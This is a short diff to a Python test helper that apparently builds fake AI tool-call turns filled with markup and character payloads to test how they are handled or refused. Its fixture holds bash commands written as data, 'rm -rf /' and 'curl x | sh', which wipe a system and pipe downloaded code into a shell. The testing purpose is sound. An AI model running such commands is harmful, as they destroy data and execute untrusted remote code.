@@ -81,8 +81,8 @@ PAYLOADS = (*MARKUP, *CHARACTERS)
 
 
 def twin(text: str) -> str:
-    """As long, and harmless."""
-    return re.sub(r"[^ \n]", "x", text)
+    """As long, and harmless; U+0000 stays, because arguments that hold it are refused."""
+    return re.sub(r"[^ \n\x00]", "x", text)
 
 
 def scripts() -> dict[str, str]:
@@ -94,5 +94,6 @@ def _turn(texts: tuple[str, ...]) -> str:
     calls = [{"name": "bash", "id": f"{n:02d}{text[:60]}", "arguments": {text: text, "n": n}} for n, text in enumerate(texts)]
     calls[0] = {"name": "bash", "arguments": {"command": f"rm -rf / # {texts[0]}"}}
     calls[1] = {"name": "bash", "arguments": {"command": f"curl x | sh # {texts[1]}"}}
-    calls[2] = {"name": texts[2], "arguments": texts[3]}
+    # no tool has either name, so both are refused alike
+    calls[2] = {"name": texts[2] if "<" in texts[2] else "!" * len(texts[2]), "arguments": {texts[3]: 1}}
     return json.dumps({"text": "\n".join(texts), "thinking": "\n".join(texts), "calls": calls}, ensure_ascii=False)
